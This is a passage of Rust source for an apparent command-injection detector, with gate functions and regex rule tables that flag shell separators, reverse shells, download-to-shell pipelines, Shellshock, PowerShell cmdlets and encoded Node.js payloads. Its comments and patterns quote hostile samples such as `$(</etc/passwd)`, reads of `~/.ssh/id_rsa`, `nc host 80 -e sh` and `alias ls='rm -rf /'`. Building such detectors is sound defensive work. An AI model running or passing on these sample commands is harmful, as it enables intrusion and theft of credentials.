    if b.get(i) == Some(&b'/') && in_bin_dir(&b[i..]) {
        return true; // a program by its path (`; /usr/bin/x`)
    }
    let mut buf = [0u8; 24];
    let w = command_word(b, i, &mut buf);
    if w.is_empty() {
        return false;
    }
    is_command(w) || is_imap_tag(w) || is_executable_name(w) || in_sorted(POP3_VERBS, w)
}

/// The POP3 commands that read, delete or log in (`RETR 1`, `DELE 1`, `USER x` then `PASS y`):
/// a line of a mail session injected after a line break. Sorted; also gate words.
const POP3_VERBS: &[&str] = &["apop", "auth", "dele", "list", "retr", "top", "uidl", "user"];

/// Gate for `$(` and a backquote: a command follows ([`command_follows`]) or a file is read by
/// redirection (`$(</etc/passwd)`, `` `<~/.ssh/id_rsa` ``).
fn substitution_opens(b: &[u8], s: usize, e: usize) -> bool {
    let i = skip_space(b, e);
    command_follows(b, s, e) || (b.get(i) == Some(&b'<') && b.get(skip_space(b, i + 1)).is_some_and(|&c| c.is_ascii_alphabetic() || matches!(c, b'/' | b'~' | b'.' | b'$' | b'_')))
}

/// A program's file name with a Windows executable extension (`calc.exe`, `x.bat`, `a.ps1`).
fn is_executable_name(w: &[u8]) -> bool {
    [&b".exe"[..], b".bat", b".cmd", b".ps1", b".vbs", b".hta", b".scr"].iter().any(|x| w.len() > x.len() && w.ends_with(x))
}

/// Gate for `!`: a command follows ([`command_follows`]), or a history designator that re-runs
/// an earlier command (`!!`, `!-2`) at the start of the value or after a separator.
fn bang(b: &[u8], s: usize, e: usize) -> bool {
    let designator = match b.get(e) {
        Some(b'!') => true,
        Some(b'-') => b.get(e + 1).is_some_and(u8::is_ascii_digit),
        _ => false,
    };
    let after_separator = b[..s].iter().rev().find(|&&c| c > b' ').map_or(true, |c| matches!(c, b';' | b'|' | b'&'));
    (designator && after_separator) || command_follows(b, s, e)
}

/// A known command, also as the head of a hyphenated tool name (`ansible-config`, `chef-client`).
fn is_command(w: &[u8]) -> bool {
    let w = w.strip_suffix(b".exe").unwrap_or(w);
    in_sorted(COMMANDS, w) || in_sorted(TOOLS, w) || in_sorted(WORD_TOOLS, w) || w.iter().position(|&c| c == b'-').is_some_and(|p| p > 1 && in_sorted(COMMANDS, &w[..p]))
}

/// Gate for `{`: a command follows, or a brace list (`{cat,/etc/passwd}`, `{l,-lh}s`).
fn brace(b: &[u8], s: usize, e: usize) -> bool {
    command_follows(b, s, e) || b[e.min(b.len())..].iter().take(24).take_while(|&&c| c != b'}' && c != b' ').any(|&c| c == b',')
}

/// `a001`, `A1`: an IMAP command tag (letters, then digits) after a line break.
fn is_imap_tag(w: &[u8]) -> bool {
    let letters = w.iter().take_while(|c| c.is_ascii_alphabetic()).count();
    (1..=4).contains(&letters) && (2..=8).contains(&w.len()) && w.len() > letters && w[letters..].iter().all(u8::is_ascii_digit)
}

/// The markers of Node.js deserialization and child-process payloads (`_$$ND_FUNC$$_`,
/// `__js_function`, `child_process`, `process.mainModule`, `eval(String.fromCharCode`,
/// `process.binding`, `this.constructor`, `new Function(`, `String.fromCharCode`, `module.exports`,
/// `global.process`, `execSync(`, `spawnSync(`, `Process.spawn(`, `while(true)`) as they read
/// inside base64 at each of the three byte
/// alignments, lower-cased like the matching form: only the characters that depend on the marker
/// alone are kept. Payloads are smuggled this way in cookies and tokens the application decodes.
const BASE64_MARKERS: &[&str] = &[
    "xyqktkrfrlvoqyqkx", "8kje5ex0zvtkmkjf", "fjcrorf9gvu5djcrf",
    "x19qc19mdw5jdglvb", "9fannfznvuy3rpb2", "fx2pzx2z1bmn0aw9u",
    "y2hpbgrfchjvy2vzc", "noawxkx3byb2nlc3", "jaglszf9wcm9jzxnz",
    "chjvy2vzcy5tywlutw9kdwxl", "byb2nlc3mubwfpbk1vzhvsz", "wcm9jzxnzlm1haw5nb2r1bg",
    "zxzhbchtdhjpbmcuznjvbunoyxjdb2rl", "v2ywwou3ryaw5nlmzyb21dagfyq29kz", "ldmfskfn0cmluzy5mcm9tq2hhcknvzg",
    "chjvy2vzcy5iaw5kaw5n", "byb2nlc3muymluzgluz", "wcm9jzxnzlmjpbmrpbm",
    "dghpcy5jb25zdhj1y3rvc", "roaxmuy29uc3rydwn0b3", "0aglzlmnvbnn0cnvjdg9y",
    "bmv3iez1bmn0aw9uk", "5ldybgdw5jdglvbi", "uzxcgrnvuy3rpb24o",
    "u3ryaw5nlmzyb21dagfyq29kz", "n0cmluzy5mcm9tq2hhcknvzg", "tdhjpbmcuznjvbunoyxjdb2rl",
    "bw9kdwxllmv4cg9ydh", "1vzhvszs5lehbvcnrz", "tb2r1bguuzxhwb3j0c",
    "z2xvymfslnbyb2nlc3", "dsb2jhbc5wcm9jzxnz", "nbg9iywwuchjvy2vzc",
    "zxhly1n5bmmo", "v4zwntew5jk", "legvju3luyy",
    "c3bhd25tew5jk", "nwyxduu3luyy", "zcgf3bln5bmmo",
    "uhjvy2vzcy5zcgf3bi", "byb2nlc3muc3bhd24o", "qcm9jzxnzlnnwyxduk",
    "d2hpbguodhj1zs", "doawxlkhrydwup", "3aglszsh0cnvlk",
];

/// Commands that run the command after them (`nohup ifconfig`, `sudo -u x id`).
const WRAPPERS: &[&str] = &["busybox", "env", "exec", "ltrace", "nice", "nohup", "strace", "sudo", "time", "timeout", "watch", "xargs"];

/// Gate for `>`: a redirection that starts the value or a command (`>/tmp/x`, `; 2>> /dev/x`).
fn redirection(b: &[u8], s: usize, e: usize) -> bool {
    let before = b[..s].iter().rev().take(16).find(|c| !c.is_ascii_digit() && **c != b' ');
    let target = skip_space(b, e + usize::from(b.get(e) == Some(&b'>')));
    matches!(before, None | Some(b';' | b'|' | b'&')) && b.get(target) == Some(&b'/')
}

/// Gate for `-e`: an option on its own (`nc host 80 -e sh`), not a hyphenated word.
fn exec_option(b: &[u8], s: usize, e: usize) -> bool {
    s > 0 && b[s - 1] == b' ' && b.get(e) == Some(&b' ')
}

/// Gate for `?` and `*`: a wildcard inside a path component (`/???/c?t`, `/et*/passwd`), with
/// the component ending at a `/`, a space or the end (`/search?q=` does not).
fn glob_component(b: &[u8], s: usize, _e: usize) -> bool {
    let is_glob = |c: u8| c.is_ascii_alphanumeric() || c == b'?' || c == b'*';
    let back = b[..s].iter().rev().take(9).take_while(|&&c| is_glob(c)).count();
    let slash = s > back && b[s - back - 1] == b'/';
    let fwd = b[s..].iter().take(12).take_while(|&&c| is_glob(c)).count();
    slash && matches!(b.get(s + fwd), None | Some(b'/' | b' ' | b'\t' | b';' | b'|' | b'&'))
}

/// Gate for `if`/`for` (Windows batch): a batch condition or loop switch follows, or a batch
/// comparison (`==`, `equ`, `geq`, ...) comes soon after.
fn batch(b: &[u8], _s: usize, e: usize) -> bool {
    if b.get(e) == Some(&b'/') {
        return true;
    }
    let i = skip_space(b, e);
    if i == e {
        return false;
    }
    // PERF: what follows first (a byte or a word), then the window, which is longer.
    let opens = match b.get(i) {
        Some(b'/' | b'%' | b'"' | b'\'' | b'[' | b'(' | b'!') => true,
        Some(c) if c.is_ascii_alphabetic() => {
            let mut buf = [0u8; 24];
            matches!(word_at(b, i, &mut buf), b"not" | b"exist" | b"defined" | b"errorlevel" | b"cmdextversion")
        }
        _ => false,
    };
    opens || batch_comparison(&b[i..b.len().min(i + 80)])
}

/// Whether `window` holds `==` or a batch comparison word between spaces (` equ `, ` geq `, ...).
fn batch_comparison(window: &[u8]) -> bool {
    let is_comparison = |k: usize| match window.get(k) {
        Some(b'=') => window.get(k + 1) == Some(&b'='),
        Some(b' ') => {
            window.get(k + 4) == Some(&b' ')
                && window.get(k + 1..k + 4).is_some_and(|op| {
                    matches!(&[lower(op[0]), lower(op[1]), lower(op[2])], b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq")
                })
        }
        _ => false,
    };
    // PERF: eight bytes at a time, stopping only at an `=` or at a space with another four
    // bytes on (prose has many spaces, few that far apart).
    let mut at = 0;
    while at < window.len() {
        let w = swar::load(window, at);
        let mut candidates = swar::eq(w, b'=') | (swar::eq(w, b' ') & swar::eq(swar::load(window, at + 4), b' '));
        while candidates != 0 {
            if is_comparison(at + (candidates.trailing_zeros() / 8) as usize) {
                return true;
            }
            candidates &= candidates - 1;
        }
        at += 8;
    }
    false
}

/// The SQLite shell's dot-commands that run programs, load code or read and write files
/// (`.shell`, `.load`, `.output`, `.backup`), each also a trigger. An injection into a statement
/// the `sqlite3` shell runs puts one at the start of a line or after `;`.
const SQLITE_DOT_COMMANDS: &[&str] = &[
    "archive", "backup", "clone", "databases", "dbinfo", "dump", "excel", "import", "iotrace", "load", "once", "open",
    "output", "read", "recover", "restore", "save", "schema", "sh", "shell", "system", "tables",
];

/// Gate for an SQLite shell dot-command (`.shell`, `.system`, `.load`): at a line start or after `;`.
fn sqlite_dot_command(b: &[u8], s: usize, e: usize) -> bool {
    let line_start = b[..s].iter().rev().take_while(|&&c| c != b'\n' && c != b';').all(|&c| c <= b' ');
    line_start && b.get(e).map_or(true, |c| !c.is_ascii_alphanumeric())
}

/// Whether a word is a program in a system binary directory (`/bin/unxz`, `/usr/local/sbin/x`).
fn in_bin_dir(word: &[u8]) -> bool {
    [
        "/bin/",
        "/sbin/",
        "/usr/bin/",
        "/usr/sbin/",
        "/usr/local/bin/",
        "/usr/local/sbin/",
    ]
    .iter()
    .any(|d| word.len() > d.len() && word[..d.len()].eq_ignore_ascii_case(d.as_bytes()))
}

/// Gate for `${`: a substring expansion (`${HOME:0:1}`, `${PATH:-1}`) follows, not a template
/// placeholder (`${name}`).
fn substring_expansion(b: &[u8], _s: usize, e: usize) -> bool {
    let name = b[e.min(b.len())..].iter().take(24).take_while(|&&c| is_word(c)).count();
    b.get(e + name) == Some(&b':') && b.get(e + name + 1).is_some_and(|&c| c.is_ascii_digit() || c == b'-')
}

/// Gate for a PowerShell verb (`clear-`, `format-`): the word it starts, hyphens included, is
/// one of [`MORE_CMDLETS`] (a kebab-case slug like `format-date` is not).
fn cmdlet_follows(b: &[u8], s: usize, _e: usize) -> bool {
    let mut buf = [0u8; 40];
    let mut n = 0;
    for &c in b.get(s..).unwrap_or_default() {
        if !(c.is_ascii_alphanumeric() || c == b'-') {
            break;
        }
        if n == buf.len() {
            return false;
        }
        buf[n] = c.to_ascii_lowercase();
        n += 1;
    }
    (s == 0 || !is_word(b[s - 1])) && in_sorted(MORE_CMDLETS, &buf[..n])
}

/// Gate for Node.js `process`: a member that reaches the runtime follows (also past spaces).
fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
    matches!(b.get(skip_space(b, e)), Some(b'.' | b'['))
}

impl Cmdi {
    pub fn new() -> Result<Cmdi, String> {
        let strong = strong_commands();
        // An argument shape: option (also after a subcommand: `install -y`), path (also `C:\`
        // and a share, `\\host`), variable, redirection, glob, an operand (`if=/dev/sda`), a
        // login (`root@10.0.0.1`), or end of the value. A `+`
        // separates words where the value is URL-encoded form data (`;cat+/etc/passwd`).
        // `ends` are the separators that may close the command (`;id;`, `|id|`).
        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:[0-7]{{3,4}}|[ugoa]*[-+=][rwxst]+)[\s+]+\S|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+\\\\[a-z0-9]|[\s+]+[a-z_]{{1,12}}=[/~$\\]|[\s+]+[a-z0-9._-]+@(?:\d{{1,3}}(?:\.\d{{1,3}}){{3}}|[a-z0-9-]+(?:\.[a-z0-9-]+)+)(?::\S*)?(?:[\s+]|$)|[\s+]+\d{{1,3}}(?:\.\d{{1,3}}){{3}}(?:[\s:/]|$)|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
        // A backquote is not a separator here: Markdown uses it for inline code; substitution is
        // matched on its own below.
        let sep = r"(?:[;|\n\r]|&&|&|\$\(|[<>]\(|\|\|)";
        // A line break separates commands in a script, but also the lines of a document, a log
        // or a stack trace (`\n  File "/app/main.py", line 3`): in a JSON text field a command
        // word opening a line is only Medium; `;`, `|`, `&&` and `$(` inside a line stay strong.
        let command_after = |sep: &str, arg: &str| format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{arg}");
        // Between two pipes, words are a table's cell (`| date |`, `| file size |`), so a command
        // after a pipe needs an argument shape of its own.
        // `&` between spaces joins two words of prose (`Filter & Sort`, `Python & Ruby`, `time &
        // date`): there a command needs an argument shape of its own, not just the end of the
        // value; glued to either side (`x&id`, `x &id`) it is a shell's.
        let glued_amp = r"(?:^|[^\s&])&";
        let in_line = arg("|;&");
        let in_line = in_line.strip_suffix(r"|\s*$)").map(|a| format!("{a})")).unwrap_or(in_line.clone());
        let strong_after_sep = format!(
            r"{}|{}|\s&(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{}|\s&\s+(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{in_line}",
            command_after(&format!(r"(?:;|&&|{glued_amp}|\$\(|[<>]\(|\|\|)"), &arg("|;&")),
            command_after(r"\|", &arg(";&")),
            arg("|;&"),
        );
        let strong_on_a_line = command_after(r"[\n\r]", &arg("|;&"));
        // After a spaced `&` a dangerous command needs an argument shaped like a host, a path, a
        // URL or an option, or to be a reconnaissance command ending the value (`x & whoami`).
        let probes = PROBES.join("|");
        let any_after_sep = format!(
            r#"(?:[;|\n\r]|&&|{glued_amp}|\$\(|[<>]\(|\|\|)\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&\s+(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:\s*[;|&)]|\s+[-/$~.<>'"\\]|\s+\S*[./:\\]\S*)|\s&\s+(?:{probes})(?:\.exe)?\s*$"#
        );
        let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
        // `x ;top`, `;ls`: a separator glued to the command after it but not to the word before
        // it is how a shell line is typed; prose puts the space after the punctuation.
        let glued = format!(r"(?:^|\s)(?:;|&&|\|\|?)(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?(?:\s|$)");
        let start_redirect = format!(r#"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\s*(?:<<<|<|>>?)\s*[/~$"']"#);
        let ansi_c = format!(r"\$\{{[a-z_][a-z0-9_]*:-?\d+(?::-?\d+)?\}}|\$'(?:\\[0-7]{{1,3}})+'|(?:^|[\s;|&(`])\$'\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b");
        let start_then_sep = format!(r"^\s*(?:{DANGEROUS})(?:\.exe)?\s*(?:[;|]|&&)");
        let start_cmd = format!(r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\s+(?:-[a-z-]|/[a-z.]|[a-z0-9_.-]+\.(?:sh|sql|zip|gz|txt|yml|py|pl|rb|exe|bat)\b|-c\b|install\b|all\b|report\b|dump\b|decrypt\b|[a-z]+\s+-)");
        // `$(` runs a command only when a command follows: `$(document)` is jQuery.
        let substitution = format!(r"\$\(\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`");
        let base64_js = BASE64_MARKERS.join("|");
        let shell_escape = format!(r"(?:^|[\s:;|\\])!\s*(?:{DANGEROUS})\b");
        // A brace list the shell expands into a command line: a command and an argument shaped
        // like one (a path, a file, an option, a variable: `{cat,/etc/passwd}`), an option among
        // the words (`{l,-lh}s`), an empty word that only serves to split (`{,ifconfig}`,
        // `{id,}`), or a list inside a word (`c{a,oun}t`). Lists of names (`fetch_{add,sub}`,
        // `const {id,name} =`, `use serde::{Serialize,Deserialize}`, `*.{js,ts}`) are code.
        let brace_expansion = format!(
            r"\{{(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong}),(?:[^\s{{}},]*,)*[^\s{{}},]*[/.$~-][^\s{{}}]*\}}|\{{[a-z]*,(?:[a-z0-9]*,)*-[a-z0-9-]*(?:,[^\s{{}},]*)*\}}|\{{,[a-z0-9./-]+(?:,[a-z0-9./-]*)*\}}|\{{[a-z0-9./-]+(?:,[a-z0-9./-]+)*,\}}|[a-z]\{{[a-z0-9]*,[a-z0-9]*(?:,[a-z0-9]*)*\}}[a-z]"
        );
        // `;make -C /tmp`, `&tree c:\ /f`: an English word that names a program, with an option,
        // a path or a redirection right after it.
        let word_tool = format!(r"(?:;|&&|&|\||\$\(|`)\s*(?:{})\s+(?:--?[a-z]|/[a-z]|[<>]|[a-z]:\\)", WORD_TOOLS.join("|"));
        // `; sleep 5`, `& timeout /t 5`, `| ping -n 5 x`: a delay that answers a blind injection,
        // the number closing the command.
        let delay = format!(r"{sep}\s*(?:sleep\s+\d+(?:\.\d+)?[smhd]?|timeout\s+/t\s+\d+)\s*(?:$|[;|&#`)])");
        // PowerShell cmdlets that run, fetch or reach the system (`Invoke-Expression`,
        // `Get-ChildItem`, `New-Object Net.WebClient`), and `iex`/`iwr` in their code shapes.
        let cmdlets = MORE_CMDLETS.join("|");
        // A command in backquotes glued to what precedes it (`x=`id``, `"`uname`"`), or as the
        // whole value (`` `cat /etc/hosts` ``): Markdown's inline code stands apart, in a sentence.
        let backquoted = format!(r"(?:[^\s`(\[*_]|^\s*)`\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b[^`]*`(?:\s*$|[^\s])|^\s*`\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b[^`]*`\s*(?:$|[;|&])");
        let more_cmdlets = format!(r"(?:{sep}|`|\bpowershell(?:\.exe)?\s+(?:-[a-z]+\s+)*)\s*(?:{cmdlets})\b");
        let powershell = format!(r"(?:^|{sep}|`|\bpowershell(?:\.exe)?\s+(?:-[a-z]+\s+)*)\s*(?:{POWERSHELL_CMDLETS})\b|\|\s*iex\b|\biex\s*\(\s*(?:new-object|iwr|irm|invoke-|\(|\[|\$)|\b(?:iwr|irm)\s+(?:-uri\s+)?https?://");
        // `&wevtutil cl system`, `|netsh firewall set opmode disable`: Windows administration
        // tools, no word of any language, take plain words as arguments.
        // `net` takes English words (`net user growth`): with a switch or a share it is the tool.
        let windows_admin = format!(r"{sep}\s*(?:(?:{WINDOWS_ADMIN})(?:\.exe)?(?:\s+[a-z0-9/+-]|\s*$)|net1?(?:\.exe)?\s+(?:user|localgroup|group|view|share|use|start|stop|accounts|session)\b(?:\s+[^\s;|&]+){{0,3}}?\s+(?:/[a-z]|\\\\))");
        // `alias ls='rm -rf /'`: a command name made to run another command.
        let alias = format!(r#"(?:^|{sep})\s*alias\s+[a-z0-9_.-]+\s*=\s*["']?\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b"#);
        let sqlite = format!(r"(?:^|[;\n])\s*\.(?:{})\b", SQLITE_DOT_COMMANDS.join("|"));
        let table = [
            (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
            // Bash imports a function from any variable whose value *starts* with `() {`.
            (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*[^}]*\}\s*;"#, Critical, 0.95, "Shellshock function definition"),
            (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*:?\s*;?"#, Critical, 0.9, "Shellshock function definition"),
            // `0>&1` ties the shell's input to its output socket; `2>&1` is every script's stderr.
            (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|(?:^|[^0-9])0>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
            (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*(?:\.\s*|\[\s*['`\x22])constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b|\bfunction\s*\((?:\s*['`\x22][^'`\x22]*['`\x22]\s*[+,]?)+\)\s*\(|\breflect\s*\.\s*(?:construct|apply)\s*\(\s*(?:function|eval)\b|\b(?:exec|execfile|spawn)sync\s*\(|\$[0-9a-z@]*:(?:[a-z_$][\w$]*:)*constructor\b)", High, 0.85, "server-side JavaScript code injection"),
            (JS_CODE, Medium, 0.6, "JavaScript code"),
            (RUBY_CODE, Medium, 0.6, "Ruby code"),
            (windows_admin.as_str(), High, 0.85, "Windows administration tool after a shell separator"),
            (r"(?:[;|\n]|&&|&|\$\(|`)\s*\.\s+(?:\.{0,2}/|~/|\$)\S", High, 0.8, "script sourced after a shell separator"),
            (r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b", Critical, 0.9, "server-side include"),
            (r#"\bfor\s*(?:/[a-z]+\s*)*(?:(?:"[^"]*"|'[^']*'|[^\s%"']+|%[a-z_]+%)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
            (r#"\bif\s*(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S|(?:exist|defined|errorlevel|cmdextversion)\s*$|errorlevel\s+\d|cmdextversion\s+\d|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|["'\[({%!][^=\s]*\s*==|/i\s+\S+\s*={2,3}\s*\S+\s+\S|(?:not\s+)?\S+\s*={2,3}\s*\S+\s+(?:echo|goto|set|call|cmd|exit|copy|del|type|dir|start|md|cd|rd|@|\())"#, High, 0.8, "Windows batch IF"),
            (strong_after_sep.as_str(), Critical, 0.9, "command after a shell separator"),
            (strong_on_a_line.as_str(), Medium, 0.6, "command word opening a line of text"),
            (any_after_sep.as_str(), Critical, 0.9, "dangerous command after a shell separator"),
            (wrapped.as_str(), High, 0.85, "command run through a wrapper"),
            (word_tool.as_str(), High, 0.8, "program named by a word, with arguments, after a shell separator"),
            (glued.as_str(), High, 0.8, "command glued to a shell separator"),
            (start_then_sep.as_str(), High, 0.8, "command line"),
            (r"(?:^|[;&|\s])[a-z_][a-z0-9_]*=[^\s;&|]*\s*(?:[;|\n]|&&|\|\|)(?:.*(?:[;|\n]|&&|\|\|))?\s*\$\{?[a-z_][a-z0-9_]*\}?(?:\s|$)", High, 0.8, "command from an assigned variable"),
            (r"(?:^|[\s;|&=<>(`+])(?:/usr(?:/local)?)?/(?:(?:[a-z0-9]+[?*]|\*?\?|\*+[a-z0-9])[a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
            (substitution.as_str(), Critical, 0.85, "command substitution"),
            // `$(<file)` and `` `<file` ``: bash reads the file into the command line, no command
            // needed. A system or home path, a dotfile or a climb is what an attacker reads; any
            // other file (`$(</path/to/cert.pem)`) is an API docs' curl sample sent unexpanded.
            (r"\$\(\s*<\s*(?:/(?:etc|proc|root|home|var|sys|dev|tmp|run|usr|opt|srv|app|windows)\b|~|\$|(?:\.{1,2}/)*\.[a-z_]|\.\./)[^\s()<>;|&`]*\s*\)|`\s*<\s*(?:/(?:etc|proc|root|home|var|sys|dev|tmp|run|usr|opt|srv|app|windows)\b|~|\$|(?:\.{1,2}/)*\.[a-z_]|\.\./)[^\s()<>;|&`]*\s*`", High, 0.85, "system file read by command substitution"),
            (r"\$\(\s*<\s*[/~.$a-z_][^\s()<>;|&`]*\s*\)|`\s*<\s*[/~.$a-z_][^\s()<>;|&`]*\s*`", Medium, 0.6, "file read by command substitution"),
            (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|%comspec%\s*/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
            (start_cmd.as_str(), High, 0.7, "command line"),
            (start_redirect.as_str(), High, 0.8, "command line with a redirection"),
            // A value that starts with a program in a system binary directory and its arguments.
            (r"^\s*/(?:usr/)?(?:local/)?s?bin/[a-z0-9_.+-]+\s+[-/$~]", High, 0.8, "command line by absolute path"),
            (r"(?:^|[;|&])\s*\d*>>?\s*/(?:tmp|dev|etc|var|usr|s?bin|home|root|proc)/\S", High, 0.8, "redirection into a system path"),
            (shell_escape.as_str(), High, 0.8, "shell escape"),
            (r"[;|&`(]\s*[a-z]{1,4}\s*\{?[^}\s]*\}?\s*(?:<<<|>>?\s*/)", High, 0.8, "shell redirection"),
            // `${HOME:0:1}` (a `/` cut from a variable), `$'\143\141\164'`: only a shell spells
            // characters so; `$'\x63at'` reads `$'cat'` once the escapes are decoded.
            (ansi_c.as_str(), High, 0.8, "shell expansion spelling characters"),
            (brace_expansion.as_str(), High, 0.7, "brace expansion"),
            (r"(?:^|[;|&\s])~[+-]\d*(?:$|/|\s*[;|&])", High, 0.7, "tilde expansion"),
            // `!!`, `!-2`: bash re-runs an earlier command line of the session.
            (r"(?:^|[;|&])\s*!(?:!|-\d+)\s*(?:$|[;|&])", High, 0.7, "shell history expansion"),
            (alias.as_str(), High, 0.8, "shell alias for a command"),
            // `@{[ system 'id' ]}` runs a list, `${\ `id`}` a scalar reference, inside a Perl string.
            (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[|\$\{\s*\\\s*(?:\(|`|[a-z_:]+\s*[(`'\x22])", High, 0.8, "Perl interpolation"),
            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store|create|delete|rename|subscribe|unsubscribe|list|copy|move|search)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
            // Each a whole line in POP3's own shape (a message number, a login pair, an MD5
            // digest, a SASL mechanism), which a line of prose (`List of items`) is not.
            (r"\r?\n\s*(?:(?:retr|dele|list|uidl)\s+\d+|top\s+\d+\s+\d+|user\s+\S+\s*\r?\n\s*pass\s+\S+|apop\s+\S+\s+[0-9a-f]{32}|auth\s+(?:plain|login|cram-md5|digest-md5|xoauth2|oauthbearer|gssapi|ntlm|external|anonymous|scram-sha-[0-9a-z-]+)(?:\s+[a-z0-9+/]+={0,2})?)\s*(?:\r?\n|$)", High, 0.75, "POP3 command injection"),
            (sqlite.as_str(), High, 0.8, "SQLite shell command"),
            (delay.as_str(), High, 0.8, "delay command after a shell separator"),
            (powershell.as_str(), High, 0.85, "PowerShell command"),
        ];
        let probe = format!(r"^\s*(?:{})(?:\.exe)?\s*$", PROBES.join("|"));
        Ok(Cmdi {
            leading_cmdlet: super::regex(&format!(r#"^\s*(?:{cmdlets})(?:\s*$|\s+-[a-z]|\s*[|;]|\s+["'$@(\\/.]|\s+[a-z]:\\)"#))?,
            rules: Rules::new(Family::Cmdi, &table)?,
            strict_rules: Rules::new(
                Family::Cmdi,
                &[
                    (JS_CODE, High, 0.85, "server-side JavaScript code injection"),
                    (RUBY_CODE, High, 0.85, "server-side Ruby code injection"),
                    // `wget http://x/a.sh`: a value that is a download command line.
                    (r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:wget|curl|lwp-download|aria2c|tftp)(?:\.exe)?\s+(?:-\S+\s+)*(?:https?|ftp|tftp)://", High, 0.75, "download command line"),
                    (strong_on_a_line.as_str(), Critical, 0.9, "command after a shell separator"),
                    // Ansible, Chef and CrowdSec consoles run anything on every managed host;
                    // their hyphenated names are no word of prose.
                    (AUTOMATION_TOOL, High, 0.7, "automation tool command line"),
                    (&more_cmdlets, High, 0.8, "PowerShell cmdlet after a shell separator"),
                    (&backquoted, High, 0.8, "command substitution"),
                    // `$((1+1))`: only a shell evaluates arithmetic so, the probe of an injection.
                    (r"\$\(\([^()]{0,32}[-+*/%^&|<>][^()]{0,32}\)\)", High, 0.7, "shell arithmetic expansion"),
                    // `x; /usr/bin/anything`: a program run from a system binary directory after
                    // a separator (the path alone is a setting: `/usr/bin/python3`).
